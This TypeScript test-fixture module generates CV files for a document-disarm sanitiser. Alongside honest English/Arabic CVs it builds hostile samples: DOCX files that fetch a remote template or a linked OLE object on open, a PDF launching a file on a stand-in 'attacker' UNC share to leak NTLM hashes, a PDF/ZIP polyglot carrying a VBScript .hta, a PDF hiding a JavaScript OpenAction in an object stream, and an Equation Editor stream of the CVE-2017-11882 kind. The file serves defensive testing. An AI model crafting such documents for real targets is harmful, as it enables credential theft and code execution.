/**
 * CVs for the disarm tests (docs/decisions/0026), built here: honest ones with big, clear text
 * (so OCR reads them reliably) and the files of the 2026-11-26 attack exercise, written by hand
 * as PDF text or packed with yazl.
 */
import CFB from 'cfb';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import { docFile, zipFile } from './files.ts';

/** Words the OCR layer of a rebuilt CV must contain. */
export const ocrWords = { english: 'Engineer', arabic: 'مهندس' };

const w =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"';
const xmlHead = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const relsNs = 'http://schemas.openxmlformats.org/package/2006/relationships';
const relType = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A paragraph in a large font (36 pt), right-to-left when asked. */
function paragraph(text: string, rtl = false): string {
  const bidi = rtl ? '<w:pPr><w:bidi/><w:jc w:val="right"/></w:pPr>' : '';
  const rtlRun = rtl ? '<w:rtl/>' : '';
  return `<w:p>${bidi}<w:r><w:rPr><w:rFonts w:ascii="DejaVu Sans" w:hAnsi="DejaVu Sans" w:cs="DejaVu Sans"/>${rtlRun}<w:sz w:val="72"/><w:szCs w:val="72"/></w:rPr><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;
}

interface DocxParts {
  body: string;
  documentRels?: string;
  settings?: string;
  settingsRels?: string;
}

/** A Word package with the given body and relationships (the minimum Word and LibreOffice open). */
async function docx(parts: DocxParts): Promise<Buffer> {
  const overrides = [
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
    parts.settings
      ? '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
      : '',
  ].join('');
  const entries: Record<string, string> = {
    '[Content_Types].xml': `${xmlHead}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${overrides}</Types>`,
    '_rels/.rels': `${xmlHead}<Relationships xmlns="${relsNs}"><Relationship Id="rId1" Type="${relType}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/document.xml': `${xmlHead}<w:document ${w}><w:body>${parts.body}<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>`,
    'word/_rels/document.xml.rels': `${xmlHead}<Relationships xmlns="${relsNs}">${parts.settings ? `<Relationship Id="rIdS" Type="${relType}/settings" Target="settings.xml"/>` : ''}${parts.documentRels ?? ''}</Relationships>`,
  };
  if (parts.settings) entries['word/settings.xml'] = `${xmlHead}<w:settings ${w}>${parts.settings}</w:settings>`;
  if (parts.settingsRels)
    entries['word/_rels/settings.xml.rels'] = `${xmlHead}<Relationships xmlns="${relsNs}">${parts.settingsRels}</Relationships>`;
  return zipFile(entries);
}

/** An honest one-page CV in English and Arabic. */
export const bilingualDocx = () =>
  docx({ body: paragraph(`Software ${ocrWords.english}`) + paragraph(`${ocrWords.arabic} برمجيات`, true) });

/** A DOCX whose settings attach a template from `url` (Word fetches it when the file opens). */
export const remoteTemplateDocx = (url: string) =>
  docx({
    body: paragraph('Remote template'),
    settings: '<w:attachedTemplate r:id="rIdT"/>',
    settingsRels: `<Relationship Id="rIdT" Type="${relType}/attachedTemplate" Target="${url}" TargetMode="External"/>`,
  });

/** A DOCX with an OLE object linked (not embedded) to a file at `url`, updated on open. */
export const externalOleDocx = (url: string) =>
  docx({
    body: `${paragraph('Linked object')}<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="720"><v:shape id="_x0000_i1025" style="width:72pt;height:36pt"/><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rIdO" UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r></w:p>`,
    documentRels: `<Relationship Id="rIdO" Type="${relType}/oleObject" Target="${url}" TargetMode="External"/>`,
  });

/** A PDF of `pages` A4 pages, each with one line in 40 pt Helvetica. */
export async function textPdf(lines: string[]): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (const line of lines) document.addPage([595, 842]).drawText(line, { x: 50, y: 700, size: 40, font });
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

/** Serialises numbered objects as a classic PDF with an xref table (offsets computed here). */
function classicPdf(objects: string[], trailer: string, tail = ''): Buffer {
  let body = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets = objects.map((object, i) => {
    const offset = Buffer.byteLength(body, 'latin1');
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} ${trailer} >>\nstartxref\n${xref}\n%%EOF\n${tail}`;
  return Buffer.from(body, 'latin1');
}

const pageContent = (text: string) => {
  const stream = `BT /F1 36 Tf 50 700 Td (${text}) Tj ET`;
  return `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`;
};
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** A PDF whose one page links to a UNC path (a click sends the NTLM hash to that host). */
export function uncLinkPdf(): Buffer {
  return classicPdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R] >>',
      pageContent('UNC link CV'),
      font,
      '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A << /S /Launch /F (\\\\\\\\attacker\\\\share\\\\cv.exe) /Win << /F (\\\\\\\\attacker\\\\share\\\\cv.exe) >> >> >>',
    ],
    '/Root 1 0 R',
  );
}

/** A PDF followed by a ZIP carrying an .hta: a PDF reader and an unzip tool each see "their" file. */
export async function pdfZipPolyglot(): Promise<Buffer> {
  const pdf = classicPdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
      pageContent('Polyglot CV'),
      font,
    ],
    '/Root 1 0 R',
  );
  const zip = await zipFile({ 'cv.hta': '<html><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></html>' });
  return Buffer.concat([pdf, zip]);
}

/**
 * A PDF 1.5 whose catalog, with a JavaScript OpenAction, sits in an object stream that only a
 * cross-reference stream points to (no xref table to scan).
 */
export function objectStreamJavaScriptPdf(): Buffer {
  const packed = ['<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'];
  let objects = '';
  const index: string[] = [];
  packed.forEach((object, i) => {
    index.push(`${i === 0 ? 1 : 3} ${objects.length}`);
    objects += `${object}\n`;
  });
  const header = `${index.join(' ')} `;
  const objStm = `<< /Type /ObjStm /N ${packed.length} /First ${header.length} /Length ${header.length + objects.length} >>\nstream\n${header}${objects}\nendstream`;
  const plain: Record<number, string> = {
    2: '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    4: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 6 0 R /Resources << /Font << /F1 7 0 R >> >> >>',
    5: objStm,
    6: pageContent('Object stream CV'),
    7: font,
  };
  let body = '%PDF-1.5\n%\xe2\xe3\xcf\xd3\n';
  const offsets: Record<number, number> = {};
  for (const [num, object] of Object.entries(plain)) {
    offsets[Number(num)] = Buffer.byteLength(body, 'latin1');
    body += `${num} 0 obj\n${object}\nendobj\n`;
  }
  const xrefOffset = Buffer.byteLength(body, 'latin1');
  // Rows of /W [1 4 2]: type, field 2, field 3. Objects 1 and 3 are in object stream 5.
  const row = (type: number, a: number, b: number) =>
    Buffer.from([type, (a >>> 24) & 255, (a >>> 16) & 255, (a >>> 8) & 255, a & 255, (b >>> 8) & 255, b & 255]);
  const rows = Buffer.concat([
    row(0, 0, 65535),
    row(2, 5, 0),
    row(1, offsets[2]!, 0),
    row(2, 5, 1),
    row(1, offsets[4]!, 0),
    row(1, offsets[5]!, 0),
    row(1, offsets[6]!, 0),
    row(1, offsets[7]!, 0),
    row(1, xrefOffset, 0),
  ]);
  const xrefHead = `8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length ${rows.length} >>\nstream\n`;
  return Buffer.concat([
    Buffer.from(body + xrefHead, 'latin1'),
    rows,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefOffset}\n%%EOF\n`, 'latin1'),
  ]);
}

/**
 * A Word 97 compound file carrying an Equation Editor object (`ObjectPool/_1234/Equation
 * Native`, the stream CVE-2017-11882 overflowed). Unreferenced from the text: writing a real
 * Word 97 document is beyond a fixture, so this covers the DOC path, not Word's parsing.
 */
export function equationNativeDoc(): Buffer {
  const container = CFB.read(docFile, { type: 'buffer' });
  CFB.utils.cfb_add(
    container,
    '/ObjectPool/_1234/Equation Native',
    Buffer.concat([Buffer.from([0x1c, 0, 0, 0, 2, 0]), Buffer.alloc(64, 0x41)]),
  );
  CFB.utils.cfb_add(container, '/ObjectPool/_1234/\u0001CompObj', Buffer.from('Microsoft Equation 3.0\0Equation.3\0'));
  return CFB.write(container, { type: 'buffer' }) as Buffer;
}
